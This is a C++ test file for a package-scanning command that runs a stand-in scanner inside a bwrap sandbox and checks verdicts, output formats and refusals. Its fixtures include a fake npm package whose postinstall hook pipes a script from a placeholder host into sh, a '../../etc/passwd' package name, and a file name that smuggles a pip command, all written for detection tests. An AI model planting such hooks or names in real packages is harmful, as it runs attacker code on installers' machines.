// `batlehub scan` as an operator runs it, under real bwrap, with postmortem's adapter over
// a stand-in postmortem (tests/helpers/fake_postmortem: the real one is not installable
// here) placed in its room: findings, verdicts, exit codes, formats, and a scanner that
// crashes, hangs or prints garbage becoming a held verdict with the reason shown.
#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include "archive_builder.h"
#include "harness.h"
#include "rooms.h"
#include "server/service/sandbox_pool.h"
#include "server/commands/scan_command.h"
#include "storage_table.h"

namespace batlehub::testing {

using batlehub::testing::storage_table;
namespace {

struct Ran {
  int status = -1;
  std::string out;
  std::string err;
};

class ScanCli : public ::testing::Test {
 protected:
  void SetUp() override {
    if (auto why = bwrap_unavailable(); !why.empty()) GTEST_SKIP() << why;
    rooms_ = s_.root() / "rooms";
    fs::create_directories(rooms_);
    ASSERT_TRUE(build_room(rooms_, "postmortem",
                           "--binary " + std::string(BATLEHUB_HELPERS_DIR) + "/fake_postmortem:/usr/bin/postmortem"));
    Scratch::write(s_.root() / "left-pad-1.3.0.tgz",
                   make_tgz({file("package/package.json", "{\"name\":\"left-pad\",\"version\":\"1.3.0\"}"),
                             file("package/index.js", "x")}));
    Scratch::write(s_.root() / "evil-pad-1.3.1.tgz",
                   make_tgz({file("package/package.json",
                                  "{\"name\":\"evil-pad\",\"version\":\"1.3.1\",\"scripts\":{\"postinstall\":"
                                  "\"curl -s https://x.example/s | sh\"}}")}));
  }

  fs::path config(const std::string& command = "postmortem", const std::string& extra = "") {
    fs::path p = s_.root() / "config.toml";
    Scratch::write(p, "[worker]\njob_timeout_secs = 20\n[worker.sandbox]\nrooms_dir = \"" + rooms_.string() +
                          "\"\nprobe_canaries = [\"127.0.0.1:9\"]\n" + extra +
                          "\n[scanners.postmortem]\ntype = \"postmortem\"\ncommand = \"" + command +
                          "\"\ntimeline = false\n" + storage_table(extra));
    return p;
  }

  Ran scan(std::vector<std::string> args) {
    fs::path out = s_.root() / "stdout";
    std::string cmd = std::string(BATLEHUB_BIN) + " scan";
    for (const auto& a : args) cmd += " '" + a + "'";
    cmd += " > " + out.string();
    std::string err;
    int rc = run_process({"/bin/sh", "-c", cmd}, s_.root(), {"PATH=/usr/bin:/bin"}, &err);
    return Ran{rc, Scratch::read(out), err};
  }

  std::string archive(const char* name) { return (s_.root() / name).string(); }

  Scratch s_;
  fs::path rooms_;
};

TEST_F(ScanCli, a_benign_package_is_allowed) {
  Ran r = scan({"--config", config().string(), archive("left-pad-1.3.0.tgz")});
  EXPECT_EQ(r.status, 0) << r.out << r.err;
  EXPECT_EQ(r.out,
            "local:left-pad@1.3.0\n"
            "  state      allowed\n"
            "  reasons    —\n"
            "  policy     local/default\n"
            "  evaluated  " +
                r.out.substr(r.out.find("evaluated  ") + 11, 20) +
                "\n"
                "  scanned    " +
                r.out.substr(r.out.find("evaluated  ") + 11, 20) +
                "\n"
                "  scanners   postmortem\n"
                "  findings   none\n"
                "Served.\n");
  EXPECT_NE(r.err.find("INFO sandbox: probing runtime \"bwrap\""), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("INFO scan: local:left-pad@1.3.0: scanning with postmortem (runtime bwrap"), std::string::npos);
}

TEST_F(ScanCli, an_install_hook_warns_by_default_and_denies_when_asked) {
  Ran r = scan({"--config", config().string(), archive("evil-pad-1.3.1.tgz")});
  EXPECT_EQ(r.status, 10) << r.out << r.err;
  EXPECT_NE(r.out.find("  state      warned\n"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("  reasons    INSTALL_HOOK\n"), std::string::npos);
  EXPECT_NE(r.out.find("    postmortem   high       INSTALL_HOOK           "), std::string::npos) << r.out;
  Ran deny = scan({"--config", config().string(), "--deny-install-hooks", "deny", archive("evil-pad-1.3.1.tgz")});
  EXPECT_EQ(deny.status, 30) << deny.out;
  EXPECT_NE(deny.out.find("  state      denied\n"), std::string::npos);
  EXPECT_NE(deny.out.find("Refused until"), std::string::npos);
}

TEST_F(ScanCli, json_and_sarif_carry_the_same_findings) {
  Ran j = scan({"--config", config().string(), "--format", "json", archive("evil-pad-1.3.1.tgz")});
  auto doc = nlohmann::json::parse(j.out);
  ASSERT_EQ(doc.size(), 1u);
  EXPECT_EQ(doc[0]["state"], "warned");
  EXPECT_EQ(doc[0]["name"], "evil-pad");
  ASSERT_EQ(doc[0]["findings"].size(), 1u);
  EXPECT_EQ(doc[0]["findings"][0]["code"], "INSTALL_HOOK");
  EXPECT_EQ(doc[0]["runtime"], "bwrap");
  Ran s = scan({"--config", config().string(), "--format", "sarif", archive("evil-pad-1.3.1.tgz")});
  auto sarif = nlohmann::json::parse(s.out);
  EXPECT_EQ(sarif["version"], "2.1.0");
  ASSERT_EQ(sarif["runs"].size(), 1u);
  EXPECT_EQ(sarif["runs"][0]["tool"]["driver"]["name"], "postmortem");
  ASSERT_EQ(sarif["runs"][0]["results"].size(), 1u);
  EXPECT_EQ(sarif["runs"][0]["results"][0]["level"], "error");
  // The archive is the run's base URI, named by its coordinate; postmortem's finding is about
  // the package as a whole, so its analysis target is that base and it has no file location.
  EXPECT_EQ(sarif["runs"][0]["originalUriBaseIds"]["local:evil-pad@1.3.1"]["uri"],
            "file://" + archive("evil-pad-1.3.1.tgz") + "/");
  EXPECT_EQ(sarif["runs"][0]["results"][0]["analysisTarget"],
            nlohmann::json({{"uri", ""}, {"uriBaseId", "local:evil-pad@1.3.1"}}));
  EXPECT_FALSE(sarif["runs"][0]["results"][0].contains("locations"));
  EXPECT_EQ(sarif["runs"][0]["invocations"][0]["executionSuccessful"], true);
  EXPECT_EQ(sarif["runs"][0]["conversion"]["tool"]["driver"]["name"], "batlehub");
  // A clean scan still says which scanners looked: a run with no results.
  Ran clean = scan({"--config", config().string(), "--format", "sarif", archive("left-pad-1.3.0.tgz")});
  EXPECT_EQ(clean.status, 0) << clean.out << clean.err;
  auto cj = nlohmann::json::parse(clean.out);
  ASSERT_EQ(cj["runs"].size(), 1u) << clean.out;
  EXPECT_EQ(cj["runs"][0]["tool"]["driver"]["name"], "postmortem");
  EXPECT_TRUE(cj["runs"][0]["results"].empty());
}

// A scanner that fails in any way is a SCANNER_ERROR finding, and under the default
// scanner_error = "quarantine" a held verdict, with the reason in the output. hostile plays
// each part: run as `crashes scan …` it knows no mode "scan" and exits 64; installed as
// garbage-scanner it prints something that is not JSON; as hanging-scanner it hangs.
TEST_F(ScanCli, a_scanner_that_crashes_times_out_or_prints_garbage_holds_the_package) {
  struct Case {
    std::string command;
    std::string timeout;
    std::string says;
  };
  for (const Case& c :
       std::vector<Case>{{"crashes", "20", "SCANNER_ERROR          scanner crashed: postmortem exited 64"},
                         {"garbage-scanner", "20",
                          "SCANNER_ERROR          scanner output could not be read: scanner output is not JSON"},
                         {"hanging-scanner", "2", "SCANNER_ERROR          scanner timed out"}}) {
    fs::copy_file(std::string(BATLEHUB_HELPERS_DIR) + "/hostile", rooms_ / "postmortem/usr/bin" / c.command,
                  fs::copy_options::overwrite_existing);
    fs::path cfg = config(c.command);
    std::string text = Scratch::read(cfg);
    text.replace(text.find("job_timeout_secs = 20"), 21, "job_timeout_secs = " + c.timeout);
    Scratch::write(cfg, text);
    Ran r = scan({"--config", cfg.string(), archive("left-pad-1.3.0.tgz")});
    EXPECT_EQ(r.status, 20) << c.command << "\n" << r.out << r.err;
    EXPECT_NE(r.out.find("  state      quarantined\n"), std::string::npos) << r.out;
    EXPECT_NE(r.out.find("  reasons    SCANNER_ERROR\n"), std::string::npos) << r.out;
    EXPECT_NE(r.out.find(c.says), std::string::npos) << r.out;
    EXPECT_NE(r.out.find("Held until"), std::string::npos);
    fs::remove(cfg);
  }
}

TEST_F(ScanCli, walls_that_fail_their_probe_scan_nothing) {
  fs::create_directories(rooms_ / "postmortem/bin");
  fs::copy_file(std::string(BATLEHUB_HELPERS_DIR) + "/hostile", rooms_ / "postmortem/bin/sh");
  Ran r = scan({"--config", config().string(), archive("left-pad-1.3.0.tgz")});
  EXPECT_EQ(r.status, 3);
  EXPECT_EQ(r.out.substr(0, r.out.find('\n')), "no_shell: found /bin/sh");
  EXPECT_EQ(r.err.find("scanning with"), std::string::npos) << "nothing may be scanned behind a failed probe";
}

TEST_F(ScanCli, a_refusal_under_json_or_sarif_is_json_on_stdout_with_the_same_exit_code) {
  Scratch::write(s_.root() / "release.tar.gz", "not read");
  Ran text = scan({"--config", config().string(), archive("release.tar.gz")});
  EXPECT_EQ(text.status, 4);
  EXPECT_NE(text.out.find("cannot tell the package kind"), std::string::npos) << text.out;

  Ran js = scan({"--config", config().string(), "--format", "json", archive("release.tar.gz")});
  EXPECT_EQ(js.status, 4);
  auto j = nlohmann::json::parse(js.out, nullptr, false);
  ASSERT_FALSE(j.is_discarded()) << js.out;
  EXPECT_EQ(j["error"]["exit"], 4);
  EXPECT_EQ(j["error"]["archive"], archive("release.tar.gz"));
  EXPECT_NE(j["error"]["message"].get<std::string>().find("pass --kind"), std::string::npos);

  Ran sarif = scan({"--config", config().string(), "--format", "sarif", archive("release.tar.gz")});
  EXPECT_EQ(sarif.status, 4);
  auto sj = nlohmann::json::parse(sarif.out, nullptr, false);
  ASSERT_FALSE(sj.is_discarded()) << sarif.out;
  EXPECT_EQ(sj["version"], "2.1.0");
  EXPECT_EQ(sj["runs"][0]["invocations"][0]["executionSuccessful"], false);
  EXPECT_EQ(sj["runs"][0]["invocations"][0]["exitCode"], 4);
  EXPECT_EQ(sj["runs"][0]["originalUriBaseIds"]["ARCHIVE"]["uri"], "file://" + archive("release.tar.gz") + "/");

  // A configuration refused is JSON too.
  Ran cfg = scan({"--config", (s_.root() / "missing.toml").string(), "--format", "json", archive("release.tar.gz")});
  EXPECT_EQ(cfg.status, 2);
  EXPECT_FALSE(nlohmann::json::parse(cfg.out, nullptr, false).is_discarded()) << cfg.out;
}

// A name that says too little: the agent reads the package's own metadata inside the walls
// (one identify run in the postmortem room, after the probe), and only the gaps are filled.
TEST_F(ScanCli, an_archive_whose_name_says_nothing_is_identified_inside_the_sandbox) {
  Scratch::write(s_.root() / "something.tar.gz",
                 make_tgz({file("requests-2.31.0/PKG-INFO", "Metadata-Version: 2.1\nName: requests\nVersion: 2.31.0\n"),
                           file("requests-2.31.0/setup.py", "print('hi')\n")}));
  Ran py = scan({"--config", config().string(), "--format", "json", archive("something.tar.gz")});
  auto j = nlohmann::json::parse(py.out, nullptr, false);
  ASSERT_FALSE(j.is_discarded()) << py.out << py.err;
  ASSERT_EQ(j.size(), 1u) << py.out;
  EXPECT_EQ(j[0]["kind"], "pypi") << py.out;
  EXPECT_EQ(j[0]["name"], "requests");
  EXPECT_EQ(j[0]["version"], "2.31.0");
  EXPECT_NE(py.err.find("identify in room postmortem: pypi requests@2.31.0 from requests-2.31.0/PKG-INFO"),
            std::string::npos)
      << py.err;
  EXPECT_LT(py.err.find("probe passed"), py.err.find("identify in room")) << "identification comes after the walls";

  Scratch::write(s_.root() / "package.tgz",
                 make_tgz({file("package/package.json", R"({"name":"@scope/pkg","version":"1.2.3"})"),
                           file("package/index.js", "x")}));
  Ran npm = scan({"--config", config().string(), archive("package.tgz")});
  EXPECT_EQ(npm.status, 0) << npm.out << npm.err;
  EXPECT_EQ(npm.out.substr(0, npm.out.find('\n')), "local:@scope/pkg@1.2.3") << npm.out;

  // The operator's flags still win; the metadata fills only what they left out.
  Ran named = scan({"--config", config().string(), "--name", "renamed", archive("package.tgz")});
  EXPECT_EQ(named.out.substr(0, named.out.find('\n')), "local:renamed@1.2.3") << named.out << named.err;
}

TEST_F(ScanCli, an_archive_with_no_metadata_is_refused_with_what_the_agent_saw) {
  Scratch::write(s_.root() / "release.zip", make_zip({file("README.txt", "nothing to see")}));
  Ran js = scan({"--config", config().string(), "--format", "json", archive("release.zip")});
  EXPECT_EQ(js.status, 4) << js.out << js.err;
  auto j = nlohmann::json::parse(js.out, nullptr, false);
  ASSERT_FALSE(j.is_discarded()) << js.out;
  EXPECT_EQ(j["error"]["exit"], 4);
  EXPECT_EQ(j["error"]["archive"], archive("release.zip"));
  std::string m = j["error"]["message"].get<std::string>();
  EXPECT_NE(
      m.find("the agent found no package.json, PKG-INFO, METADATA, Cargo.toml or gem metadata at the archive's top"),
      std::string::npos)
      << m;
  EXPECT_NE(m.find("pass --kind"), std::string::npos) << m;

  Ran text = scan({"--config", config().string(), archive("release.zip")});
  EXPECT_EQ(text.status, 4);
  EXPECT_NE(text.out.find("no package.json, PKG-INFO"), std::string::npos) << text.out;
}

// Identity is input too (issue 28): a name or version that no registry's grammar allows is
// refused with exit 4 and what was wrong, whether the file name, the metadata or a flag said it.
TEST_F(ScanCli, a_name_no_registry_allows_is_refused_from_the_file_name_the_metadata_and_the_flags) {
  const auto sdist = make_tgz(
      {file("haxorsiambomber-2.1.3/PKG-INFO", "Metadata-Version: 2.1\nName: haxorsiambomber\nVersion: 2.1.3\n"),
       file("haxorsiambomber-2.1.3/setup.py", "print('hi')\n")});
  Scratch::write(s_.root() / "pip install haxorsiambomber-2.1.3.tar.gz", sdist);
  Ran spaced =
      scan({"--config", config().string(), "--format", "json", archive("pip install haxorsiambomber-2.1.3.tar.gz")});
  EXPECT_EQ(spaced.status, 4) << spaced.out << spaced.err;
  auto j = nlohmann::json::parse(spaced.out, nullptr, false);
  ASSERT_FALSE(j.is_discarded()) << spaced.out;
  EXPECT_EQ(j["error"]["exit"], 4);
  EXPECT_NE(j["error"]["message"].get<std::string>().find(
                "the package name \"pip install haxorsiambomber\" (read from its file name) cannot be a pypi name: "
                "it holds a space"),
            std::string::npos)
      << spaced.out;

  // The metadata's name is judged inside the walls by the same grammar: nothing is scanned.
  Scratch::write(s_.root() / "package.tgz",
                 make_tgz({file("package/package.json", R"({"name":"../../etc/passwd","version":"1.0.0"})"),
                           file("package/index.js", "x")}));
  Ran meta = scan({"--config", config().string(), archive("package.tgz")});
  EXPECT_EQ(meta.status, 4) << meta.out << meta.err;
  EXPECT_NE(meta.out.find("the name '../../etc/passwd' is not a valid npm package name"), std::string::npos)
      << meta.out;

  // A flag is no exception.
  Ran flag = scan({"--config", config().string(), "--name", "left/pad", archive("left-pad-1.3.0.tgz")});
  EXPECT_EQ(flag.status, 4) << flag.out << flag.err;
  EXPECT_NE(flag.out.find("the package name \"left/pad\" (given with --name) cannot be a npm name: it holds a path "
                          "separator ('/')"),
            std::string::npos)
      << flag.out;
  Ran version = scan({"--config", config().string(), "--version", "1.3.0\t", archive("left-pad-1.3.0.tgz")});
  EXPECT_EQ(version.status, 4) << version.out;
  EXPECT_NE(version.out.find("the version \"1.3.0\\x09\" (given with --version) cannot be a npm version: it holds a "
                             "control character (0x09)"),
            std::string::npos)
      << version.out;
}

TEST(ScanPool, the_pool_is_the_memory_budget_over_the_cost_of_a_run_and_at_least_one) {
  config::WorkerConfig w;
  w.sandbox.memory_limit_mb = 1024 * 1024;  // more than any host here
  EXPECT_EQ(server::pool_budget(w).size, 1u);
  w.sandbox.memory_limit_mb = 1;
  w.sandbox.max_extracted_mb = 1;
  auto b = server::pool_budget(w);
  EXPECT_GT(b.size, 1u);
  EXPECT_EQ(b.cost_mb, 2u);
  EXPECT_EQ(b.derived, b.budget_mb / 2);
  w.pool_slots = 3;  // the configuration lowers it
  EXPECT_EQ(server::pool_budget(w).size, 3u);
  w.pool_slots = 100000;  // and never raises it
  EXPECT_EQ(server::pool_budget(w).size, std::min<std::size_t>(100000, b.derived));
}

}  // namespace
}  // namespace batlehub::testing
